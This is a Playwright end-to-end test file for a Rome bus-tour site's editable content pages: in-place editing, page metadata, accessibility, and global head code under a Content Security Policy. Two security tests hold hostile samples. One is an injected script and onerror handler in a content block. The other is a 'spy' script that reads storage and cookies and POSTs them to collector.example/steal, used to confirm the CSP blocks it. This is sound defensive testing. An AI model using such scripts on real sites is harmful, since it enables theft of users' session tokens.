/**
 * Content blocks and the editor tools (spec §2 About Us / Terms / Return Policy / Refund / Agent points,
 * Editor tools on pages; §3 Static page content, Page metadata, Global head code; §5, §6, §8):
 * in-place editing, the lazy editor chunk, placeholders, page metadata, the global head code under the
 * page's CSP, and accessibility of the content pages.
 */
import { type APIRequestContext, type Browser, expect, type Page, type Route, test } from '@playwright/test';
import {
  apiTokenFor,
  atBothWidths,
  demoAccounts,
  expectNoSeriousA11yViolations,
  holdAppScript,
  navigateInApp,
  signInAs,
  signInWith,
  withGlobalHeadCode,
} from './fixtures';

const signIn = (page: Page, who: 'customer' | 'editor') => signInAs(page, who);

/** A fresh browser context without any token: a visitor. */
async function visitorPage(browser: Browser, baseURL: string | undefined) {
  const context = await browser.newContext({ baseURL });
  return { context, page: await context.newPage() };
}

async function blockContent(request: APIRequestContext, pageTag: string, tag: string): Promise<string> {
  const res = await request.get(`/api/static-content/${pageTag}/`);
  const body = await res.json();
  return body.content_blocks.find((b: { unique_tag: string }) => b.unique_tag === tag).block_content;
}

async function restoreBlock(request: APIRequestContext, access: string, tag: string, content: string) {
  const res = await request.post(`/api/edit-content/${tag}/`, {
    headers: { authorization: `Bearer ${access}` },
    data: { content },
  });
  expect(res.ok()).toBe(true);
}

/** Replaces the whole text of the CodeMirror editor in the open dialog. */
async function replaceSource(page: Page, text: string) {
  const editor = page.getByRole('dialog').locator('.cm-content');
  await editor.click();
  await page.keyboard.press('ControlOrMeta+a');
  await page.keyboard.press('Delete');
  await page.keyboard.insertText(text);
}

/** URLs of the JavaScript files a page requests. */
function collectScripts(page: Page): string[] {
  const urls: string[] = [];
  page.on('request', (req) => {
    if (new URL(req.url()).pathname.endsWith('.js')) urls.push(req.url());
  });
  return urls;
}

test.describe('content pages (visitor)', () => {
  test('a page opened directly gets its banner and content with the HTML: no content request, no placeholder', async ({
    page,
  }) => {
    const contentRequests: string[] = [];
    page.on('request', (r) => {
      if (r.url().includes('/api/static-content/')) contentRequests.push(r.url());
    });
    // The app's JavaScript held back: what the HTML alone shows.
    const release = await holdAppScript(page);
    await page.goto('/aboutus', { waitUntil: 'commit' });
    const frame = page.locator('#root main section img');
    await expect(frame).toHaveJSProperty('complete', true);
    expect(await frame.evaluate((img: HTMLImageElement) => img.naturalWidth)).toBeGreaterThan(0);
    const frameSrc = await frame.getAttribute('src');

    release();
    const banner = page.getByTestId('page-banner');
    await expect(page.getByRole('heading', { level: 1, name: 'About Us' })).toBeVisible();
    await expect(banner).toHaveAttribute('data-loaded', 'true');
    expect(await banner.getAttribute('src')).toBe(frameSrc);
    // Already there: shown at once, without the fade or the placeholder.
    await expect(banner).toHaveCSS('opacity', '1');
    await expect(page.getByText('Loading banner image...')).toHaveCount(0);
    await expect(page.getByText('Who we are')).toBeVisible();
    expect(contentRequests).toEqual([]);
  });

  test('the company banner shows its editable image, and the bundled default when it fails', async ({
    page,
    request,
  }) => {
    const content = await (await request.get('/api/static-content/company-big-bus/')).json();
    const file = content.page_images.find((i: { unique_tag: string }) => i.unique_tag === 'big-bus-banner')
      .image.file as string;
    await page.goto('/bus/big-bus/big%20bus');
    const banner = page.getByTestId('company-banner');
    await expect(banner).toHaveAttribute('data-loaded', 'true');
    expect(await banner.getAttribute('src')).toBe(file);

    await page.route(`**${file}`, (route) => route.fulfill({ status: 404, body: '' }));
    await page.reload();
    await expect(banner).toHaveAttribute('data-loaded', 'true');
    expect(await banner.getAttribute('src')).toBe('/banners/big-bus.webp');
    await expect(page.getByText('Loading banner image...')).toHaveCount(0);
  });

  // The loading and failure states of a page that loads its content itself ('Loading map...', the spec's
  // three content errors under the fallback title) are component tests:
  // apps/web/src/features/pages/StaticPage.component.test.tsx.

  // A visitor's five pages are also where the editor chunk must not be downloaded (the home page's
  // check is e2e/media.spec.ts's, whose chunk list has it); an editor's page that does is the in-place
  // edit's below.
  test("About Us, Terms, Return Policy, Refund and Agent points show their content, About Us with the {email}, {phone} and {address} placeholders filled; no serious accessibility violations at 390 and 1280 px; a visitor's browser never downloads the editor chunk", async ({
    page,
    request,
  }) => {
    test.setTimeout(120_000);
    const scripts = collectScripts(page);
    const settings = (await (await request.get('/api/website-settings/')).json()).data;
    const checks: Record<string, () => Promise<void>> = {
      '/aboutus': async () => {
        await expect(page.getByText('Your guide to seeing Rome from the top deck')).toBeVisible();
        const main = page.locator('[data-content-tag="about-us-main-content"]');
        await expect(main.getByRole('heading', { name: 'Who we are' })).toBeVisible();
        await expect(main).toContainText(settings.website_email);
        await expect(main).toContainText(settings.website_phone_number);
        await expect(main).not.toContainText('{email}');
        await expect(main).not.toContainText('{phone}');
        await expect(main).not.toContainText('{address}');
        await expect(page.getByTestId('page-banner')).toHaveAttribute('data-loaded', 'true');
      },
      '/terms': () => expect(page.getByText('1. Tickets')).toBeVisible(),
      '/returnPolicy': () => expect(page.getByText('Unused tickets can be returned')).toBeVisible(),
      '/refund': () => expect(page.getByText('Refunds are made to the card')).toBeVisible(),
      '/agentpoints': () => expect(page.getByText('Termini Station')).toBeVisible(),
    };
    for (const [path, title] of [
      ['/aboutus', 'About Us'],
      ['/terms', 'Terms and Conditions'],
      ['/returnPolicy', 'Return Policy'],
      ['/refund', 'Refund Policy'],
      ['/agentpoints', 'Agent Points'],
    ]) {
      await page.goto(path);
      await expect(page.getByRole('heading', { level: 1, name: title })).toBeVisible();
      await checks[path]();
      await atBothWidths(page, async (width) => {
        await expect(
          page.getByRole('heading', { level: 1, name: title }),
          `${path} at ${width} px`,
        ).toBeVisible();
        await expect(page.locator('[aria-busy="true"], [role="status"]:has-text("Loading")')).toHaveCount(0);
        await expectNoSeriousA11yViolations(page);
      });
    }
    // The spec's other spelling of the agent points' address.
    await page.goto('/agentPoints');
    await expect(page.getByRole('heading', { level: 1, name: 'Agent Points' })).toBeVisible();
    await expect(page.getByText('Termini Station')).toBeVisible();
    await expect(page.getByText('Find our ticket agents near the main stops')).toBeVisible();
    await expect(page.locator('[data-content-tag="agent-points-map"] iframe')).toHaveAttribute(
      'src',
      /^https:\/\/www\.google\.com\/maps\/embed/,
    );
    expect(scripts.some((u) => u.includes('/assets/'))).toBe(true);
    expect(scripts.filter((u) => u.includes('EditorTools'))).toEqual([]);
  });
});

test.describe('editor tools', () => {
  test("an editor's browser downloads the editor chunk; an editor edits the About Us title in place and a visitor sees it after reload", async ({
    page,
    browser,
    baseURL,
  }) => {
    const scripts = collectScripts(page);
    const t = await signIn(page, 'editor');
    const original = await blockContent(page.request, 'about-us', 'about-us-title');
    const newTitle = `About Our Team ${Date.now()}`;
    try {
      await page.goto('/aboutus');
      await expect(page.getByRole('button', { name: 'EDIT title' })).toBeVisible();
      // The chunk a visitor's browser skips (the five pages' check above).
      expect(scripts.filter((u) => u.includes('EditorTools')).length).toBeGreaterThan(0);
      await page.getByRole('button', { name: 'EDIT title' }).click();
      const dialog = page.getByRole('dialog', { name: 'Edit title' });
      await expect(dialog).toBeVisible();
      await expect(dialog.getByText('8 characters · 1 line')).toBeVisible();
      await replaceSource(page, newTitle);
      // Live preview and counts follow the source.
      await expect(dialog.getByTestId('html-preview')).toHaveText(newTitle);
      await expect(dialog.getByText(`${newTitle.length} characters · 1 line`)).toBeVisible();

      // Hold the save a moment to see the busy label.
      await page.route('**/api/edit-content/**', async (route) => {
        await new Promise((r) => setTimeout(r, 400));
        await route.continue();
      });
      await dialog.getByRole('button', { name: 'Save Changes' }).click();
      await expect(dialog.getByRole('button', { name: 'Saving...' })).toBeDisabled();
      await expect(page.getByText('Content saved successfully!')).toBeVisible();
      await expect(dialog).toHaveCount(0);
      await expect(page.getByRole('heading', { level: 1, name: newTitle })).toBeVisible();
      // Focus went back to the EDIT button.
      await expect(page.getByRole('button', { name: 'EDIT title' })).toBeFocused();

      const visitor = await visitorPage(browser, baseURL);
      await visitor.page.goto('/aboutus');
      await expect(visitor.page.getByRole('heading', { level: 1, name: newTitle })).toBeVisible();
      await expect(visitor.page.getByRole('button', { name: /^EDIT/ })).toHaveCount(0);
      await visitor.context.close();
    } finally {
      await restoreBlock(page.request, t.access, 'about-us-title', original);
    }
  });

  test('Change Image attaches a media item and rejects an invalid one', async ({ page }) => {
    const t = await signIn(page, 'editor');
    const before = await (await page.request.get('/api/static-content/terms/')).json();
    const current = before.page_images.find((i: { unique_tag: string }) => i.unique_tag === 'terms-banner');
    // Another page's seeded banner: it is in use, so no test running alongside can delete it meanwhile.
    const other = await (await page.request.get('/api/static-content/return-policy/')).json();
    const image: { id: number; file: string } | undefined = other.page_images.find(
      (i: { unique_tag: string }) => i.unique_tag === 'return-policy-banner',
    )?.image;
    expect(image).toBeTruthy();
    if (!image) return;
    try {
      // A thumbnail of an image deleted meanwhile: the server refuses it with the spec's message.
      await page.route('**/api/media-library/', async (route) => {
        const res = await route.fetch();
        const body = await res.json();
        const gone = { ...body.data[0], id: 999999, name: 'Deleted meanwhile' };
        await route.fulfill({ response: res, json: { ...body, data: [gone, ...body.data] } });
      });
      await page.goto('/terms');
      await page.getByRole('button', { name: 'EDIT banner image' }).click();
      const dialog = page.getByRole('dialog', { name: /Change Image/ });
      await dialog.locator('label').filter({ hasText: 'Deleted meanwhile' }).click();
      await dialog.getByRole('button', { name: 'Change Image', exact: true }).click();
      await expect(dialog.getByRole('alert')).toHaveText('Failed to update image: Invalid image selected');
      await dialog.locator('label').filter({ hasText: 'return-policy-banner' }).click();
      await dialog.getByRole('button', { name: 'Change Image', exact: true }).click();
      await expect(page.getByText('Image updated successfully!')).toBeVisible();
      await expect(page.getByTestId('page-banner')).toHaveAttribute('src', image.file);
    } finally {
      if (current?.image?.id) {
        await page.request.patch('/api/page-image/terms-banner/update/', {
          headers: { authorization: `Bearer ${t.access}` },
          data: { image_id: current.image.id },
        });
      }
    }
  });

  test('an edited meta title and description reach the browser, on first load and after navigation', async ({
    browser,
    baseURL,
    request,
  }) => {
    const t = { access: await apiTokenFor(request, 'editor') };
    const before = (await (await request.get('/api/static-content/about-us/')).json()).page;
    const metaTitle = `Meet the Rome team ${Date.now()}`;
    const metaDescription = `Edited: who sells your Rome tickets ${Date.now()}`;
    const save = (data: Record<string, unknown>) =>
      request.patch('/api/pages/about-us/update/', {
        headers: { authorization: `Bearer ${t.access}` },
        data,
      });
    const description = (page: Page) => page.locator('meta[name="description"]').getAttribute('content');
    const { context, page } = await visitorPage(browser, baseURL);
    try {
      expect(
        (await save({ meta_title: metaTitle, meta_description: metaDescription, meta_keywords: '' })).ok(),
      ).toBe(true);

      // First load: the server's <head> has the edited title; the running app keeps it.
      await page.goto('/aboutus');
      // The content article is rendered by React only (the HTML's frame is the banner), so the app's
      // effects have run once it shows.
      await expect(page.locator('main article')).toBeVisible();
      await expect(page).toHaveTitle(metaTitle);
      expect(await description(page)).toBe(metaDescription);

      // In-app navigation from another page: title and description are the edited ones too.
      await navigateInApp(page, '/aboutus');
      await expect(page.locator('main article')).toBeVisible();
      await expect(page).toHaveTitle(metaTitle);
      await expect.poll(() => description(page)).toBe(metaDescription);
    } finally {
      await context.close();
      await save({
        meta_title: before.meta_title,
        meta_description: before.meta_description,
        meta_keywords: before.meta_keywords,
        schema_json: before.schema_json === null ? null : JSON.stringify(before.schema_json),
      });
    }
  });

  test('the global head code runs with the page nonce; editors’ inline scripts never run', async ({
    page,
    browser,
    baseURL,
  }) => {
    const t = await signIn(page, 'editor');
    const auth = { authorization: `Bearer ${t.access}` };
    const originalHead = (await (await page.request.get('/api/website-settings/global-head-code/')).json())
      .global_head_code as string;
    const originalMain = await blockContent(page.request, 'about-us', 'about-us-main-content');
    try {
      await page.goto('/aboutus');
      await page.getByRole('button', { name: 'Page metadata' }).click();
      await page.getByRole('button', { name: 'Global Settings' }).click();
      const panel = page.getByRole('dialog', { name: 'Global Settings' });
      expect((await panel.boundingBox())?.width).toBe(900);
      await expect(panel.locator('.cm-content')).toBeVisible();
      await replaceSource(page, `<script>document.documentElement.dataset.headCode='ran'</script>`);
      await panel.getByRole('button', { name: 'Save Head Code' }).click();
      const message = panel.getByTestId('head-code-message');
      await expect(message).toHaveText('Global head code updated!');
      // Spec §9: the message vanishes after 3.5 s.
      await expect(message).toHaveText('', { timeout: 5000 });

      // An editor puts an inline script and a handler into a content block.
      const injected =
        '<p>Safe paragraph</p><script>document.documentElement.dataset.blockScript="ran"</script>' +
        '<img src="/nope.png" alt="" onerror="document.documentElement.dataset.blockScript=\'img\'">';
      await restoreBlock(page.request, t.access, 'about-us-main-content', injected);

      const visitor = await visitorPage(browser, baseURL);
      const v = visitor.page;
      await v.goto('/aboutus');
      await expect(v.getByText('Safe paragraph')).toBeVisible();
      expect(await v.evaluate(() => document.documentElement.dataset.headCode)).toBe('ran');
      expect(await v.evaluate(() => document.documentElement.dataset.blockScript)).toBeUndefined();

      // Markup that slips past the sanitiser still cannot run code: the page's CSP (a nonce, no
      // 'unsafe-inline') refuses inline event handlers and parser-inserted inline scripts.
      await v.evaluate(() => {
        (window as any).__violations = [];
        document.addEventListener('securitypolicyviolation', (e) =>
          (window as any).__violations.push(e.effectiveDirective),
        );
        document.body.insertAdjacentHTML(
          'beforeend',
          `<img src="/nope-${Date.now()}.png" alt="" onerror="document.documentElement.dataset.injected='handler'">`,
        );
      });
      await expect
        .poll(() => v.evaluate(() => (window as any).__violations as string[]))
        .toContain('script-src-attr');
      expect(await v.evaluate(() => document.documentElement.dataset.injected)).toBeUndefined();
      await visitor.context.close();
    } finally {
      await page.request.patch('/api/website-settings/global-head-code/', {
        headers: auth,
        data: { global_head_code: originalHead },
      });
      await restoreBlock(page.request, t.access, 'about-us-main-content', originalMain);
    }
  });

  // The signed-in customer's About Us is also where a customer is shown no editor tools.
  test('the head code finds no token where it runs, cannot post what it reads, and never runs for a signed-in customer; a customer sees no EDIT button and does not load the editor chunk', async ({
    page,
    browser,
    baseURL,
  }) => {
    // Decisions 018 and 032: an editor's script looks for tokens in storage and cookies and tries to
    // send them away; a signed-in browser's pages come without it (e2e/head-code-trust.spec.ts tries
    // the rest of the attack).
    const spy = `<script>
      window.__spy = new Promise(function (done) {
        setTimeout(function () {
          var seen = JSON.stringify([Object.assign({}, localStorage), Object.assign({}, sessionStorage), document.cookie]);
          var blocked = [];
          document.addEventListener('securitypolicyviolation', function (e) { blocked.push(e.effectiveDirective); });
          fetch('https://collector.example/steal', { method: 'POST', body: seen }).catch(function () {});
          setTimeout(function () { done({ seen: seen, blocked: blocked }); }, 500);
        }, 1500);
      });
    </script>`;
    await withGlobalHeadCode(page.request, spy, async () => {
      const customer = await browser.newContext({ baseURL });
      const c = await customer.newPage();
      const scripts = collectScripts(c);
      const { customer: account } = demoAccounts();
      // Signed out: the head code runs, finds no token and cannot send what it read elsewhere.
      await c.goto('/');
      const { seen, blocked } = await c.evaluate(
        () => (window as any).__spy as Promise<{ seen: string; blocked: string[] }>,
      );
      expect(seen).not.toMatch(/eyJ[\w-]+\.[\w-]+\./);
      expect(blocked).toContain('connect-src');
      // Signed in as the sign-in form leaves a browser (its session cookie; the form itself, with head
      // code set, is e2e/head-code-trust.spec.ts's and e2e/accounts.spec.ts's).
      await signInWith(c, account.email, account.password);
      // The storefront pages of the signed-in browser carry no head code...
      for (const path of ['/', '/aboutus']) {
        await c.goto(path);
        await expect(c.getByRole('heading', { level: 1 })).toBeVisible();
        if (path === '/') await expect(c.getByRole('button', { name: 'Logout' }).first()).toBeAttached();
        expect(await c.evaluate(() => typeof (window as any).__spy), path).toBe('undefined');
      }
      // No editor tools for a customer: not cached as an editor, no EDIT button, no editor chunk.
      await expect(c.getByRole('heading', { level: 1, name: 'About Us' })).toBeVisible();
      await expect.poll(() => c.evaluate(() => localStorage.getItem('is_editor'))).toBe('false');
      await expect(c.getByRole('button', { name: /^EDIT/ })).toHaveCount(0);
      await expect(c.getByRole('button', { name: 'Page metadata' })).toHaveCount(0);
      expect(scripts.filter((u) => u.includes('EditorTools'))).toEqual([]);
      // ...and the app's session works (its calls carry the in-memory token).
      await c.goto('/yourticket');
      await expect(c).toHaveURL(/\/yourticket$/);
      await customer.close();
    });
  });

  // One editor's sign-in and About Us page for its scans, the dialogs' ways out and refusals and the
  // metadata panel, then the company and view-more pages (decision 075: a page load was most of a
  // test's CPU).
  test("editor view of About Us has no serious accessibility violations, dialogs included; Cancel and Escape close the editor without saving; the metadata panel saves a meta title that the server puts into <title>; a save the server refuses shows the server's message; a save without a token says Authentication required; company and view-more banners are editable blocks", async ({
    page,
  }) => {
    test.setTimeout(120_000);
    const t = await signIn(page, 'editor');
    const before = (await (await page.request.get('/api/static-content/about-us/')).json()).page;
    const metaTitle = `About the Rome team ${Date.now()}`;
    let saves = 0;
    const countSaves = (route: Route) => {
      saves++;
      return route.continue();
    };
    await page.route('**/api/edit-content/**', countSaves);
    try {
      await page.goto('/aboutus');
      await expect(page.getByRole('button', { name: 'EDIT main content' })).toBeVisible();
      await expectNoSeriousA11yViolations(page);
      await page.getByRole('button', { name: 'EDIT main content' }).click();
      await expect(page.getByRole('dialog').locator('.cm-content')).toBeVisible();
      await expectNoSeriousA11yViolations(page);
      await page.keyboard.press('Escape');
      await expect(page.getByRole('dialog')).toHaveCount(0);

      // Cancel and Escape: nothing saved.
      await page.getByRole('button', { name: 'EDIT subtitle' }).click();
      await replaceSource(page, 'Not saved');
      await page.getByRole('dialog').getByRole('button', { name: 'Cancel' }).click();
      await expect(page.getByRole('dialog')).toHaveCount(0);
      await page.getByRole('button', { name: 'EDIT subtitle' }).click();
      await expect(page.getByRole('dialog', { name: 'Edit subtitle' })).toBeVisible();
      await page.keyboard.press('Escape');
      await expect(page.getByRole('dialog')).toHaveCount(0);
      await expect(page.getByRole('button', { name: 'EDIT subtitle' })).toBeFocused();
      await expect(page.getByText('Your guide to seeing Rome from the top deck')).toBeVisible();
      expect(saves).toBe(0);
      await page.unroute('**/api/edit-content/**', countSaves);

      // The metadata panel, scanned, then saving a meta title the server puts into <title>.
      await page.getByRole('button', { name: 'Page metadata' }).click();
      const panel = page.getByRole('dialog', { name: 'Page Metadata' });
      await expect(panel).toBeVisible();
      await expectNoSeriousA11yViolations(page);
      expect((await panel.boundingBox())?.width).toBe(920);
      await panel.getByLabel('Meta title').fill(metaTitle);
      await panel.getByLabel('Schema JSON').fill('{not json');
      await panel.getByRole('button', { name: 'Save Meta' }).click();
      await expect(panel.getByText('Schema JSON is invalid')).toBeVisible();
      await panel.getByLabel('Schema JSON').fill('');
      await panel.getByRole('button', { name: 'Save Meta' }).click();
      // The panel's own message (the toast, drawn inside the open dialog, says it too).
      await expect(panel.locator('p[role="status"]')).toHaveText('Meta information updated!');
      const html = await (await page.request.get('/aboutus')).text();
      expect(html).toContain(`<title>${metaTitle}</title>`);
      await page.keyboard.press('Escape');
      await expect(panel).toHaveCount(0);
      await expect(page.getByRole('button', { name: 'Page metadata' })).toBeFocused();

      // The server refuses the save: its message in the dialog.
      const refuse = (route: Route) =>
        route.fulfill({
          status: 400,
          json: { error: 'Content is too long.', message: 'Content is too long.', code: 'invalid_request' },
        });
      await page.route('**/api/edit-content/**', refuse);
      await page.getByRole('button', { name: 'EDIT title' }).click();
      await page.getByRole('dialog').getByRole('button', { name: 'Save Changes' }).click();
      await expect(page.getByRole('dialog').getByRole('alert')).toHaveText(
        'Failed to save content: Content is too long.',
      );
      await page.keyboard.press('Escape');
      await expect(page.getByRole('dialog')).toHaveCount(0);
      await page.unroute('**/api/edit-content/**', refuse);

      await page.getByRole('button', { name: 'EDIT title' }).click();
      // Another tab signed out (it cleared the shared storage): this one no longer has a session.
      const email = await page.evaluate(() => localStorage.getItem('email'));
      await page.evaluate(() => localStorage.removeItem('email'));
      await page.getByRole('dialog').getByRole('button', { name: 'Save Changes' }).click();
      await expect(page.getByRole('dialog').getByRole('alert')).toHaveText(
        'Failed to save content: Authentication required',
      );
      // Signed in again for the pages below.
      await page.evaluate((e) => localStorage.setItem('email', e ?? ''), email);

      // Company and view-more banners are editable blocks (the same editor's sign-in).
      await page.goto('/bus/big-bus/big%20bus');
      await expect(page.getByRole('heading', { level: 1, name: 'Explore Rome with Big Bus' })).toBeVisible();
      await expect(page.getByRole('button', { name: 'EDIT company title' })).toBeVisible();
      await expect(page.getByRole('button', { name: 'EDIT company subtitle' })).toBeVisible();
      await expect(page.getByRole('button', { name: 'EDIT banner image' })).toBeVisible();
      await page.goto('/viewsimilar/24%20hours/Big%20Bus');
      await expect(page.getByRole('heading', { level: 1, name: 'Explore More Tours' })).toBeVisible();
      await expect(page.getByRole('button', { name: 'EDIT view more title' })).toBeVisible();
      await expect(page.getByRole('button', { name: 'EDIT banner image' })).toBeVisible();
    } finally {
      await page.request.patch('/api/pages/about-us/update/', {
        headers: { authorization: `Bearer ${t.access}` },
        data: {
          meta_title: before.meta_title,
          meta_description: before.meta_description,
          meta_keywords: before.meta_keywords,
          schema_json: before.schema_json === null ? null : JSON.stringify(before.schema_json),
        },
      });
    }
  });
});
